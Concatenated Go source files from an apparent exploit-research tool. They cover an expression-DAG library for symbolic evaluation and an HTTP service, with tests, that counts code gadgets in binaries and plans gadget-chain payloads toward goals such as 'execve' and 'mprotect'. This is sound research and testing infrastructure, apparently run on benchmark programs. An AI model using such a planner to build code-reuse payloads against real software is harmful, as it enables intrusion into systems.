// AndAll conjoins a slice of booleans (true for the empty slice).
func (b *Builder) AndAll(xs []*Node) *Node {
	out := b.True()
	for _, x := range xs {
		out = b.BAnd(out, x)
	}
	return out
}

// String renders the node as an s-expression for diagnostics.
func (n *Node) String() string {
	var sb strings.Builder
	n.format(&sb)
	return sb.String()
}

var _kindNames = map[Kind]string{
	KindAdd: "add", KindSub: "sub", KindMul: "mul", KindAnd: "and",
	KindOr: "or", KindXor: "xor", KindShl: "shl", KindLshr: "lshr",
	KindAshr: "ashr", KindNot: "not", KindNeg: "neg", KindZext: "zext",
	KindSext: "sext", KindTrunc: "trunc", KindIte: "ite", KindEq: "=",
	KindUlt: "u<", KindSlt: "s<", KindBAnd: "&&", KindBOr: "||", KindBNot: "!",
}

func (n *Node) format(sb *strings.Builder) {
	switch n.Kind {
	case KindConst:
		if n.Width == BoolWidth {
			if n.Val == 1 {
				sb.WriteString("true")
			} else {
				sb.WriteString("false")
			}
			return
		}
		fmt.Fprintf(sb, "%#x", n.Val)
	case KindVar:
		sb.WriteString(n.Name)
	default:
		sb.WriteByte('(')
		sb.WriteString(_kindNames[n.Kind])
		for _, a := range n.Args {
			sb.WriteByte(' ')
			a.format(sb)
		}
		sb.WriteByte(')')
	}
}

// Size returns the number of distinct nodes reachable from n.
func Size(n *Node) int {
	visited := make(map[uint32]bool)
	var visit func(n *Node)
	visit = func(n *Node) {
		if visited[n.id] {
			return
		}
		visited[n.id] = true
		for _, a := range n.Args {
			visit(a)
		}
	}
	visit(n)
	return len(visited)
}
