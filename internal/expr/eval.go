package expr

import "fmt"

// Env binds variable names to concrete values (masked to variable width).
type Env map[string]uint64

// Eval computes the concrete value of n under env. Boolean nodes evaluate to
// 0 or 1. Unbound variables are an error.
func Eval(n *Node, env Env) (uint64, error) {
	cache := make(map[uint32]uint64)
	return evalRec(n, env, cache)
}

func evalRec(n *Node, env Env, cache map[uint32]uint64) (uint64, error) {
	if v, ok := cache[n.id]; ok {
		return v, nil
	}
	v, err := evalNode(n, env, cache)
	if err != nil {
		return 0, err
	}
	cache[n.id] = v
	return v, nil
}

func evalNode(n *Node, env Env, cache map[uint32]uint64) (uint64, error) {
	switch n.Kind {
	case KindConst:
		return n.Val, nil
	case KindVar:
		v, ok := env[n.Name]
		if !ok {
			return 0, fmt.Errorf("expr: unbound variable %q", n.Name)
		}
		return maskWidth(v, n.Width), nil
	}

	args := make([]uint64, len(n.Args))
	for i, a := range n.Args {
		v, err := evalRec(a, env, cache)
		if err != nil {
			return 0, err
		}
		args[i] = v
	}
	w := n.Width
	aw := uint8(64)
	if len(n.Args) > 0 {
		aw = n.Args[0].Width
	}

	boolVal := func(b bool) uint64 {
		if b {
			return 1
		}
		return 0
	}

	switch n.Kind {
	case KindAdd:
		return maskWidth(args[0]+args[1], w), nil
	case KindSub:
		return maskWidth(args[0]-args[1], w), nil
	case KindMul:
		return maskWidth(args[0]*args[1], w), nil
	case KindAnd:
		return args[0] & args[1], nil
	case KindOr:
		return args[0] | args[1], nil
	case KindXor:
		return args[0] ^ args[1], nil
	case KindShl:
		return maskWidth(args[0]<<(args[1]%uint64(w)), w), nil
	case KindLshr:
		return args[0] >> (args[1] % uint64(w)), nil
	case KindAshr:
		sv := int64(signExtend(args[0], w))
		return maskWidth(uint64(sv>>(args[1]%uint64(w))), w), nil
	case KindNot:
		return maskWidth(^args[0], w), nil
	case KindNeg:
		return maskWidth(-args[0], w), nil
	case KindZext:
		return args[0], nil
	case KindSext:
		return maskWidth(signExtend(args[0], aw), w), nil
	case KindTrunc:
		return maskWidth(args[0], w), nil
	case KindIte:
		if args[0] == 1 {
			return args[1], nil
		}
		return args[2], nil
	case KindEq:
		return boolVal(args[0] == args[1]), nil
	case KindUlt:
		return boolVal(args[0] < args[1]), nil
	case KindSlt:
		return boolVal(int64(signExtend(args[0], aw)) < int64(signExtend(args[1], aw))), nil
	case KindBAnd:
		return args[0] & args[1], nil
	case KindBOr:
		return args[0] | args[1], nil
	case KindBNot:
		return args[0] ^ 1, nil
	}
	return 0, fmt.Errorf("expr: cannot evaluate kind %d", n.Kind)
}

// Evaluator evaluates nodes with a memo table that is reused across calls
// and shared between them until Reset. Sharing matters two ways: evaluating
// several formulas of one query under one environment computes shared
// subterms once, and the table's storage is recycled across environments, so
// a battery of evaluations (the solver's concrete-screening tier) does not
// allocate a fresh map per probe. The zero value is ready to use.
//
// The memo is keyed by node identity only, so it is sound exactly while the
// environment is fixed: call Reset whenever the environment changes.
type Evaluator struct {
	cache map[uint32]uint64
}

// Reset forgets memoized values. Call it before evaluating under a new
// environment.
func (e *Evaluator) Reset() {
	if e.cache == nil {
		e.cache = make(map[uint32]uint64)
	} else {
		clear(e.cache)
	}
}

// Eval computes the concrete value of n under env, memoizing subterm values
// until the next Reset.
func (e *Evaluator) Eval(n *Node, env Env) (uint64, error) {
	if e.cache == nil {
		e.cache = make(map[uint32]uint64)
	}
	return evalRec(n, env, e.cache)
}

// EvalBool evaluates a boolean node under env, memoizing like Eval.
func (e *Evaluator) EvalBool(n *Node, env Env) (bool, error) {
	if n.Width != BoolWidth {
		return false, fmt.Errorf("expr: EvalBool on width-%d node", n.Width)
	}
	v, err := e.Eval(n, env)
	return v == 1, err
}

// EvalBool evaluates a boolean node under env.
func EvalBool(n *Node, env Env) (bool, error) {
	if n.Width != BoolWidth {
		return false, fmt.Errorf("expr: EvalBool on width-%d node", n.Width)
	}
	v, err := Eval(n, env)
	return v == 1, err
}

// Subst rebuilds n with every variable named in bind replaced by its
// binding. Rebuilding goes through the builder, so simplifications reapply.
// Variables not present in bind are kept.
func Subst(b *Builder, n *Node, bind map[string]*Node) *Node {
	cache := make(map[uint32]*Node)
	return substRec(b, n, bind, cache)
}

func substRec(b *Builder, n *Node, bind map[string]*Node, cache map[uint32]*Node) *Node {
	if v, ok := cache[n.id]; ok {
		return v
	}
	var out *Node
	switch n.Kind {
	case KindConst:
		out = n
	case KindVar:
		if repl, ok := bind[n.Name]; ok {
			if repl.Width != n.Width {
				panic(fmt.Sprintf("expr: substitution width mismatch for %q: %d vs %d",
					n.Name, repl.Width, n.Width))
			}
			out = repl
		} else {
			out = b.Var(n.Name, n.Width)
		}
	default:
		args := make([]*Node, len(n.Args))
		changed := false
		for i, a := range n.Args {
			args[i] = substRec(b, a, bind, cache)
			if args[i] != a {
				changed = true
			}
		}
		if !changed {
			out = rebuild(b, n, n.Args)
		} else {
			out = rebuild(b, n, args)
		}
	}
	cache[n.id] = out
	return out
}

// rebuild re-creates a node of the same kind through the builder's smart
// constructors, which both interns it in b and reapplies simplification.
func rebuild(b *Builder, n *Node, args []*Node) *Node {
	switch n.Kind {
	case KindAdd:
		return b.Add(args[0], args[1])
	case KindSub:
		return b.Sub(args[0], args[1])
	case KindMul:
		return b.Mul(args[0], args[1])
	case KindAnd:
		return b.And(args[0], args[1])
	case KindOr:
		return b.Or(args[0], args[1])
	case KindXor:
		return b.Xor(args[0], args[1])
	case KindShl:
		return b.Shl(args[0], args[1])
	case KindLshr:
		return b.Lshr(args[0], args[1])
	case KindAshr:
		return b.Ashr(args[0], args[1])
	case KindNot:
		return b.Not(args[0])
	case KindNeg:
		return b.Neg(args[0])
	case KindZext:
		return b.Zext(args[0], n.Width)
	case KindSext:
		return b.Sext(args[0], n.Width)
	case KindTrunc:
		return b.Trunc(args[0], n.Width)
	case KindIte:
		return b.Ite(args[0], args[1], args[2])
	case KindEq:
		return b.Eq(args[0], args[1])
	case KindUlt:
		return b.Ult(args[0], args[1])
	case KindSlt:
		return b.Slt(args[0], args[1])
	case KindBAnd:
		return b.BAnd(args[0], args[1])
	case KindBOr:
		return b.BOr(args[0], args[1])
	case KindBNot:
		return b.BNot(args[0])
	}
	panic(fmt.Sprintf("expr: rebuild of kind %d", n.Kind))
}
