package expr

import "fmt"

// Importer re-interns expression DAGs built in one Builder into another,
// memoizing by source node so shared subterms are imported exactly once and
// stay shared in the destination. It is the merge primitive for sharded
// analysis: extraction workers build effects in private builders, and the
// merge step imports them into the pool's builder, restoring the
// pointer-equality invariant that subsumption and planning rely on.
//
// Import rebuilds nodes through the destination builder's constructors
// rather than copying them raw, so commutative-operand ordering and all
// algebraic simplifications are re-applied against the destination's node
// identities. A DAG imported into a builder is therefore pointer-equal to
// the node the same construction sequence would have produced natively.
//
// An Importer is not safe for concurrent use; its destination builder must
// not be mutated concurrently either.
type Importer struct {
	dst  *Builder
	memo map[*Node]*Node
}

// NewImporter returns an importer targeting dst. One importer may be reused
// across many Import calls (and across source builders); the memo table is
// keyed by source node pointer, which is unique per source builder.
func NewImporter(dst *Builder) *Importer {
	return &Importer{dst: dst, memo: make(map[*Node]*Node)}
}

// Dst returns the destination builder.
func (im *Importer) Dst() *Builder { return im.dst }

// Import re-interns n — a node from any builder — into the destination
// builder and returns the equivalent destination node. Importing nil
// returns nil.
func (im *Importer) Import(n *Node) *Node {
	if n == nil {
		return nil
	}
	if m, ok := im.memo[n]; ok {
		return m
	}
	var args [3]*Node
	for i, a := range n.Args {
		args[i] = im.Import(a)
	}
	b := im.dst
	var m *Node
	switch n.Kind {
	case KindConst:
		m = b.Const(n.Val, n.Width)
	case KindVar:
		m = b.Var(n.Name, n.Width)
	case KindAdd:
		m = b.Add(args[0], args[1])
	case KindSub:
		m = b.Sub(args[0], args[1])
	case KindMul:
		m = b.Mul(args[0], args[1])
	case KindAnd:
		m = b.And(args[0], args[1])
	case KindOr:
		m = b.Or(args[0], args[1])
	case KindXor:
		m = b.Xor(args[0], args[1])
	case KindShl:
		m = b.Shl(args[0], args[1])
	case KindLshr:
		m = b.Lshr(args[0], args[1])
	case KindAshr:
		m = b.Ashr(args[0], args[1])
	case KindNot:
		m = b.Not(args[0])
	case KindNeg:
		m = b.Neg(args[0])
	case KindZext:
		m = b.Zext(args[0], n.Width)
	case KindSext:
		m = b.Sext(args[0], n.Width)
	case KindTrunc:
		m = b.Trunc(args[0], n.Width)
	case KindIte:
		m = b.Ite(args[0], args[1], args[2])
	case KindEq:
		m = b.Eq(args[0], args[1])
	case KindUlt:
		m = b.Ult(args[0], args[1])
	case KindSlt:
		m = b.Slt(args[0], args[1])
	case KindBAnd:
		m = b.BAnd(args[0], args[1])
	case KindBOr:
		m = b.BOr(args[0], args[1])
	case KindBNot:
		m = b.BNot(args[0])
	default:
		panic(fmt.Sprintf("expr: import of invalid node kind %d", n.Kind))
	}
	im.memo[n] = m
	return m
}

// ImportAll imports a slice of nodes in order.
func (im *Importer) ImportAll(nodes []*Node) []*Node {
	if nodes == nil {
		return nil
	}
	out := make([]*Node, len(nodes))
	for i, n := range nodes {
		out[i] = im.Import(n)
	}
	return out
}

// Import is the one-shot convenience form: it re-interns n into dst with a
// fresh memo table. For importing many related DAGs, construct one Importer
// and reuse it so shared subterms are translated once.
func Import(dst *Builder, n *Node) *Node {
	return NewImporter(dst).Import(n)
}
