package expr

import "sort"

// Free-variable collection. Vars and VarNodes are the one-shot forms;
// VarCollector amortizes the traversal state for callers that collect from
// many DAGs in a row (the solver's triage tier collects the free variables
// of every verdict query before evaluating its environment battery).

// Vars returns the sorted names of all variables appearing in the nodes.
func Vars(nodes ...*Node) []string {
	var c VarCollector
	vars := c.Collect(nodes...)
	out := make([]string, len(vars))
	for i, v := range vars {
		out[i] = v.Name
	}
	return out
}

// VarNodes returns the distinct variable nodes appearing in the nodes,
// sorted by name.
func VarNodes(nodes ...*Node) []*Node {
	var c VarCollector
	return append([]*Node(nil), c.Collect(nodes...)...)
}

// VarCollector gathers distinct variable nodes from expression DAGs. Its
// visited set and output slice are reused across calls, so collecting from
// many queries in a loop does per-call work proportional to the DAG, not to
// the history of prior calls. The zero value is ready to use.
type VarCollector struct {
	visited map[uint32]bool
	out     []*Node
}

// Collect returns the distinct variable nodes reachable from the given
// nodes, sorted by name. The returned slice is owned by the collector and
// valid only until the next Collect call.
func (c *VarCollector) Collect(nodes ...*Node) []*Node {
	if c.visited == nil {
		c.visited = make(map[uint32]bool)
	} else {
		clear(c.visited)
	}
	c.out = c.out[:0]
	for _, n := range nodes {
		if n != nil {
			c.visit(n)
		}
	}
	sort.Slice(c.out, func(i, j int) bool { return c.out[i].Name < c.out[j].Name })
	return c.out
}

func (c *VarCollector) visit(n *Node) {
	if c.visited[n.id] {
		return
	}
	c.visited[n.id] = true
	if n.Kind == KindVar {
		c.out = append(c.out, n)
	}
	for _, a := range n.Args {
		c.visit(a)
	}
}
