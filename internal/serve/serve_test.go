package serve

import (
	"context"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

func newTestServer(t *testing.T) (*Server, *Client) {
	t.Helper()
	store := pipeline.NewStore().WithGate(pipeline.NewGate(2, nil))
	srv := NewServer(store, 1)
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	c, err := Dial(ts.URL)
	if err != nil {
		t.Fatal(err)
	}
	return srv, c
}

// TestRequestKeyCanonical pins the keying contract: defaulted and explicit
// requests address the same artifacts, different work gets different keys.
func TestRequestKeyCanonical(t *testing.T) {
	base := Request{Program: "crc"}
	k0, err := base.Key()
	if err != nil {
		t.Fatal(err)
	}

	// Explicit defaults and display-only fields do not change the key.
	explicit := Request{Op: OpPlan, Program: "crc", Goal: "all", Name: "some-label"}
	if k, _ := explicit.Key(); k != k0 {
		t.Errorf("explicit defaults changed the key:\n %s\n %s", k0, k)
	}

	// A program by name and its inlined source are the same build.
	p, ok := benchprog.ByName("crc")
	if !ok {
		t.Fatal("no crc benchmark")
	}
	inline := Request{Source: p.Source, Name: "inlined"}
	if k, _ := inline.Key(); k != k0 {
		t.Errorf("inline source diverged from program-by-name:\n %s\n %s", k0, k)
	}

	// Different obfuscation, seed, op, or goal is different work.
	for _, r := range []Request{
		{Program: "crc", Obf: "llvm"},
		{Program: "crc", Seed: 7},
		{Program: "crc", Op: OpCount},
		{Program: "crc", Op: OpAnalyze},
		{Program: "crc", Goal: "mprotect"},
		{Program: "crc", SelfMod: 3},
		{Program: "crc", MaxNodes: 123},
		{Program: "crc", SkipVerify: true},
	} {
		k, err := r.Key()
		if err != nil {
			t.Fatalf("%+v: %v", r, err)
		}
		if k == k0 {
			t.Errorf("distinct request %+v collided with the base key", r)
		}
	}

	// Malformed requests are rejected at keying time.
	for _, r := range []Request{
		{},
		{Program: "crc", Source: "int main() {}"},
		{Program: "no-such-program"},
		{Program: "crc", Op: "frobnicate"},
		{Program: "crc", Goal: "no-such-goal"},
		{Binary: []byte{1, 2, 3}, Obf: "llvm"},
	} {
		if _, err := r.Key(); err == nil {
			t.Errorf("bad request %+v keyed without error", r)
		}
	}
}

// TestConcurrentClientsIdentical is the concurrent-client determinism
// gate: N clients submit overlapping request sets concurrently, every
// response renders byte-identical to a local single-process run, and the
// server's stats show each unique artifact was computed exactly once.
func TestConcurrentClientsIdentical(t *testing.T) {
	reqs := []Request{
		{Op: OpCount, Program: "bubblesort"},
		{Op: OpCount, Program: "bubblesort", Obf: "llvm"},
		{Op: OpPlan, Program: "bubblesort", Goal: "execve", MaxPlans: 2, MaxNodes: 800},
	}
	ctx := context.Background()

	// Local single-process reference: each request against a fresh store.
	ref := make([]string, len(reqs))
	for i, r := range reqs {
		res, err := Run(ctx, pipeline.NewStore(), 1, r, nil)
		if err != nil {
			t.Fatal(err)
		}
		ref[i] = res.Canon()
	}

	srv, client := newTestServer(t)
	const clients = 4
	var wg sync.WaitGroup
	errs := make(chan error, clients)
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			// Each client walks the set from a different offset, so the
			// overlap pattern varies client to client.
			for i := range reqs {
				j := (i + c) % len(reqs)
				res, err := client.Run(ctx, reqs[j], nil)
				if err != nil {
					errs <- err
					return
				}
				if got := res.Canon(); got != ref[j] {
					t.Errorf("client %d request %d diverged from local run:\n got: %q\nwant: %q", c, j, got, ref[j])
				}
			}
		}(c)
	}
	wg.Wait()
	close(errs)
	if err := <-errs; err != nil {
		t.Fatal(err)
	}

	// Computed-once: 12 requests, but each unique artifact computed once.
	st := srv.Snapshot()
	if st.Requests != int64(clients*len(reqs)) {
		t.Errorf("requests = %d, want %d", st.Requests, clients*len(reqs))
	}
	wantMisses := map[string]int64{
		"build": 2, // bubblesort original + llvm
		"count": 2,
		"plan":  1,
	}
	for _, row := range st.Stages {
		want, ok := wantMisses[row.Stage]
		if !ok {
			continue
		}
		if row.Misses != want {
			t.Errorf("stage %s misses = %d, want %d (computed more than once)", row.Stage, row.Misses, want)
		}
	}
}

// TestServedStagesStream checks that a served request reports its stage
// trail and that a warm repeat marks stages cached.
func TestServedStagesStream(t *testing.T) {
	_, client := newTestServer(t)
	req := Request{Op: OpCount, Program: "crc"}
	ctx := context.Background()

	var coldStages []StageEvent
	if _, err := client.Run(ctx, req, func(ev StageEvent) { coldStages = append(coldStages, ev) }); err != nil {
		t.Fatal(err)
	}
	if len(coldStages) == 0 {
		t.Fatal("no stage events streamed")
	}
	for _, ev := range coldStages {
		if ev.Cached {
			t.Errorf("cold stage %s reported cached", ev.Stage)
		}
	}

	var warmStages []StageEvent
	res, err := client.Run(ctx, req, func(ev StageEvent) { warmStages = append(warmStages, ev) })
	if err != nil {
		t.Fatal(err)
	}
	for _, ev := range warmStages {
		if !ev.Cached {
			t.Errorf("warm stage %s reported uncached", ev.Stage)
		}
	}
	if len(res.Stages) != len(warmStages) {
		t.Errorf("result carries %d stages, streamed %d", len(res.Stages), len(warmStages))
	}
	if res.Wall == nil {
		t.Error("served result is missing the wall-bucket snapshot")
	}
}

// TestDrain pins the drain semantics: a draining server refuses new runs
// and reports unhealthy, but still serves stats.
func TestDrain(t *testing.T) {
	srv, client := newTestServer(t)
	ctx := context.Background()
	srv.SetDraining(true)

	if _, err := client.Run(ctx, Request{Op: OpCount, Program: "crc"}, nil); err == nil {
		t.Error("draining server accepted a run")
	} else if !strings.Contains(err.Error(), "503") {
		t.Errorf("draining run error = %v, want a 503", err)
	}
	st, err := client.Stats(ctx)
	if err != nil {
		t.Fatalf("stats during drain: %v", err)
	}
	if !st.Draining {
		t.Error("stats do not report draining")
	}

	srv.SetDraining(false)
	if _, err := client.Run(ctx, Request{Op: OpCount, Program: "crc"}, nil); err != nil {
		t.Errorf("undrained server refused a run: %v", err)
	}
}

// TestServerErrorPropagates checks a failing request surfaces as a client
// error, not a broken stream.
func TestServerErrorPropagates(t *testing.T) {
	_, client := newTestServer(t)
	_, err := client.Run(context.Background(), Request{Binary: []byte("not an sbf binary")}, nil)
	if err == nil {
		t.Fatal("malformed binary served without error")
	}
}
