package serve

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// maxRequestBody bounds a /run request body (inline sources are small;
// marshaled binaries are at most a few MB).
const maxRequestBody = 64 << 20

// Server is the analysis service: one warm shared store serving N clients.
// Concurrent identical requests collapse onto one execution (the joiners
// replay the winner's progress and share its result), partial overlaps
// dedup through the store's per-stage singleflight, and the store's gate
// bounds per-stage compute concurrency.
type Server struct {
	store *pipeline.Store
	par   int
	start time.Time

	// BaseContext, if set before serving, scopes request computations.
	// Deliberately not the per-request context: the winner of a
	// cross-client singleflight computes a shared artifact, so a dropped
	// client must not cancel work other clients are waiting on. A forced
	// server shutdown cancels it.
	BaseContext context.Context

	mu    sync.Mutex
	calls map[string]*call

	requests   atomic.Int64
	dedupJoins atomic.Int64
	inflight   atomic.Int64
	completed  atomic.Int64
	errored    atomic.Int64
	draining   atomic.Bool
}

// call is one in-flight request execution, shared by every client that
// submitted the same canonical key while it ran.
type call struct {
	mu     sync.Mutex
	events []StageEvent
	done   chan struct{}
	result *Result
	err    error
}

// NewServer returns a service over store. parallelism is forwarded to each
// request's pipeline (0 = all cores); bound the per-stage compute pools by
// attaching a pipeline.Gate to the store (Store.WithGate).
func NewServer(store *pipeline.Store, parallelism int) *Server {
	return &Server{
		store: store,
		par:   parallelism,
		start: time.Now(),
		calls: make(map[string]*call),
	}
}

// SetDraining flips drain mode: new /run requests are refused with 503
// while in-flight ones run to completion (http.Server.Shutdown provides
// the wait). Load balancers see the flip on /healthz.
func (s *Server) SetDraining(v bool) { s.draining.Store(v) }

// Draining reports drain mode.
func (s *Server) Draining() bool { return s.draining.Load() }

// Handler returns the service's HTTP handler: POST /run (JSONL stream),
// GET /stats, GET /healthz.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/run", s.handleRun)
	mux.HandleFunc("/stats", s.handleStats)
	mux.HandleFunc("/healthz", s.handleHealthz)
	return mux
}

func (s *Server) baseContext() context.Context {
	if s.BaseContext != nil {
		return s.BaseContext
	}
	return context.Background()
}

// jsonl line shapes: {"event":"stage",...} per finished stage, then
// exactly one of {"event":"result","result":{...}} or
// {"event":"error","error":"..."}.
type stageLine struct {
	Event string `json:"event"`
	StageEvent
}

type finalLine struct {
	Event  string  `json:"event"`
	Result *Result `json:"result,omitempty"`
	Error  string  `json:"error,omitempty"`
}

// wallLine carries the serving process's wall-bucket snapshot, streamed
// once per response just before the final line (timing telemetry — never
// part of the canonical result).
type wallLine struct {
	Event   string                    `json:"event"`
	Buckets []pipeline.WallBucketStat `json:"buckets"`
}

func (s *Server) handleRun(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST only", http.StatusMethodNotAllowed)
		return
	}
	if s.draining.Load() {
		http.Error(w, "draining", http.StatusServiceUnavailable)
		return
	}
	var req Request
	dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxRequestBody))
	if err := dec.Decode(&req); err != nil {
		http.Error(w, fmt.Sprintf("bad request: %v", err), http.StatusBadRequest)
		return
	}
	key, err := req.Key()
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}

	s.requests.Add(1)
	s.inflight.Add(1)
	defer s.inflight.Add(-1)

	w.Header().Set("Content-Type", "application/x-ndjson")
	enc := json.NewEncoder(w)
	flusher, _ := w.(http.Flusher)
	flush := func() {
		if flusher != nil {
			flusher.Flush()
		}
	}

	// Cross-request singleflight: the first submitter of a key becomes the
	// winner and executes; everyone else joins its call.
	s.mu.Lock()
	c, joined := s.calls[key]
	if !joined {
		c = &call{done: make(chan struct{})}
		s.calls[key] = c
	}
	s.mu.Unlock()

	if joined {
		s.dedupJoins.Add(1)
		select {
		case <-c.done:
		case <-r.Context().Done():
			return // client gone; the winner keeps computing
		}
		for _, ev := range c.events {
			enc.Encode(stageLine{Event: "stage", StageEvent: ev})
		}
		enc.Encode(wallLine{Event: "wall", Buckets: pipeline.WallStats()})
		s.writeFinal(enc, c.result, c.err)
		flush()
		return
	}

	// Winner: execute under the server's lifetime context and stream
	// progress live. Events are also recorded on the call for joiners.
	progress := func(ev StageEvent) {
		c.mu.Lock()
		c.events = append(c.events, ev)
		c.mu.Unlock()
		enc.Encode(stageLine{Event: "stage", StageEvent: ev})
		flush()
	}
	res, err := Run(s.baseContext(), s.store, s.par, req, progress)

	c.result, c.err = res, err
	s.mu.Lock()
	delete(s.calls, key)
	s.mu.Unlock()
	close(c.done)

	enc.Encode(wallLine{Event: "wall", Buckets: pipeline.WallStats()})
	s.writeFinal(enc, res, err)
	flush()
}

func (s *Server) writeFinal(enc *json.Encoder, res *Result, err error) {
	if err != nil {
		s.errored.Add(1)
		enc.Encode(finalLine{Event: "error", Error: err.Error()})
		return
	}
	s.completed.Add(1)
	enc.Encode(finalLine{Event: "result", Result: res})
}

// StageStat merges one stage's store counters with its gate-pool state —
// the per-stage row of /stats.
type StageStat struct {
	pipeline.StageStats
	Limit    int   `json:"limit,omitempty"`
	InFlight int64 `json:"inflight"`
	Queued   int64 `json:"queued"`
	Admitted int64 `json:"admitted,omitempty"`
}

// Stats is the /stats document: request-level counters (the cross-request
// singleflight's computed-once evidence is Requests vs DedupJoins plus the
// per-stage miss counts), per-stage hit rates, pool depths, and store-tier
// state.
type Stats struct {
	UptimeSeconds    float64             `json:"uptime_seconds"`
	Requests         int64               `json:"requests"`
	DedupJoins       int64               `json:"dedup_joins"`
	InFlightRequests int64               `json:"inflight_requests"`
	Completed        int64               `json:"completed_requests"`
	Errors           int64               `json:"request_errors"`
	Draining         bool                `json:"draining"`
	Parallelism      int                 `json:"parallelism"`
	Stages           []StageStat         `json:"stages"`
	MemEntries       int                 `json:"mem_entries"`
	MemEvictions     int64               `json:"mem_evictions"`
	Disk             *pipeline.DiskStats `json:"disk,omitempty"`
	// Wall is where the process's non-stage wall time went.
	Wall      []pipeline.WallBucketStat `json:"wall,omitempty"`
	StoreLine string                    `json:"store_line"`
}

// Snapshot collects the current Stats.
func (s *Server) Snapshot() Stats {
	st := Stats{
		UptimeSeconds:    time.Since(s.start).Seconds(),
		Requests:         s.requests.Load(),
		DedupJoins:       s.dedupJoins.Load(),
		InFlightRequests: s.inflight.Load(),
		Completed:        s.completed.Load(),
		Errors:           s.errored.Load(),
		Draining:         s.draining.Load(),
		Parallelism:      s.par,
		MemEntries:       s.store.MemEntries(),
		MemEvictions:     s.store.MemEvictions(),
		StoreLine:        s.store.StatsLine(),
	}
	gates := make(map[string]pipeline.GateStats)
	for _, g := range s.store.Gate().Stats() {
		gates[g.Stage] = g
	}
	for _, ss := range s.store.Stats() {
		row := StageStat{StageStats: ss}
		if g, ok := gates[ss.Stage]; ok {
			row.Limit, row.InFlight, row.Queued, row.Admitted =
				g.Limit, g.InFlight, g.Queued, g.Admitted
		}
		st.Stages = append(st.Stages, row)
	}
	if s.store.Disk() != nil {
		ds := s.store.DiskStats()
		st.Disk = &ds
	}
	st.Wall = pipeline.WallStats()
	return st
}

func (s *Server) handleStats(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(s.Snapshot())
}

func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	if s.draining.Load() {
		http.Error(w, "draining", http.StatusServiceUnavailable)
		return
	}
	fmt.Fprintln(w, "ok")
}
