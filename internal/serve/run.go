package serve

import (
	"context"
	"crypto/sha256"
	"encoding/hex"

	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// Progress observes per-stage completion while a request runs. Callbacks
// arrive sequentially from the executing goroutine.
type Progress func(StageEvent)

// Run executes one request against a store. It is the single executor both
// sides of the service share: the gpd server runs requests through it
// against the long-lived shared store, and a client (or test, or
// benchmark) runs the same function against a private store to obtain the
// local single-process reference — which is how the byte-identity claim is
// phrased and checked.
//
// ctx is a stage-granular cancellation boundary: between stages, and at
// every store entry (pipeline.DoCtx), a canceled context abandons the
// remaining work. A stage computation already admitted runs to completion
// — its artifact is shared with concurrent requests and is never cached
// half-finished.
func Run(ctx context.Context, store *pipeline.Store, parallelism int, req Request, progress Progress) (*Result, error) {
	rr, err := req.resolve()
	if err != nil {
		return nil, err
	}
	res := &Result{Key: rr.key, Op: rr.req.Op, Name: rr.req.Name}
	emit := func(ev StageEvent) {
		res.Stages = append(res.Stages, ev)
		if progress != nil {
			progress(ev)
		}
	}
	emitInfo := func(stage string, info pipeline.Info) {
		emit(StageEvent{
			Stage:      stage,
			Cached:     info.Hit,
			Millis:     float64(info.Compute.Microseconds()) / 1000,
			AllocBytes: info.AllocBytes,
		})
	}

	// Materialize the binary: unmarshal a prebuilt one, or build (through
	// the store) from source.
	var bin *sbf.Binary
	if rr.binary != nil {
		bin, err = sbf.Unmarshal(rr.binary)
		if err != nil {
			return nil, err
		}
	} else {
		var info pipeline.Info
		bin, info, err = pipeline.BuildISACtx(ctx, store, rr.prog, rr.passes, rr.req.Seed, rr.isa)
		if err != nil {
			return nil, err
		}
		emitInfo("build", info)
		if res.Name == "" {
			res.Name = rr.prog.Name
		}
	}
	if rr.req.SelfMod != 0 {
		var info pipeline.Info
		bin, info, err = pipeline.SelfModifyCtx(ctx, store, bin, byte(rr.req.SelfMod))
		if err != nil {
			return nil, err
		}
		emitInfo("encode", info)
	}
	res.TextBytes = bin.CodeSize()

	switch rr.req.Op {
	case OpCount:
		counts, info, err := pipeline.CountCtx(ctx, store, bin, 0)
		if err != nil {
			return nil, err
		}
		emitInfo("count", info)
		res.Counts = CountRows(counts)
		res.Gadgets = gadget.TotalCount(counts)
		return res, nil

	case OpAnalyze, OpPlan:
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		a := core.Analyze(bin, core.Config{
			Planner:     rr.popts,
			Parallelism: parallelism,
			Store:       store,
			SkipVerify:  rr.req.SkipVerify,
		})
		for _, t := range a.Timings {
			emit(timingEvent(t))
		}
		res.RawPool = a.RawPool.Size()
		res.Pool = a.Pool.Size()
		res.Subsume = a.SubsumeStats.String()

		for _, goal := range rr.goals {
			if err := ctx.Err(); err != nil {
				return nil, err
			}
			before := len(a.Timings)
			atk := a.FindPayloads(goal)
			for _, t := range a.Timings[before:] {
				emit(timingEvent(t))
			}
			gr := GoalResult{
				Goal:   goal.Name,
				Plans:  len(atk.Plans),
				Search: atk.Search.StatsLine(),
			}
			for _, pl := range atk.Payloads {
				sum := sha256.Sum256(pl.Bytes)
				gr.Payloads = append(gr.Payloads, PayloadResult{
					Bytes:   len(pl.Bytes),
					Gadgets: len(pl.Chain),
					SHA256:  hex.EncodeToString(sum[:]),
					Base:    pl.Base,
					Entry:   pl.Entry,
					Data:    pl.Bytes,
				})
			}
			res.Goals = append(res.Goals, gr)
		}
		return res, nil
	}
	return res, nil
}

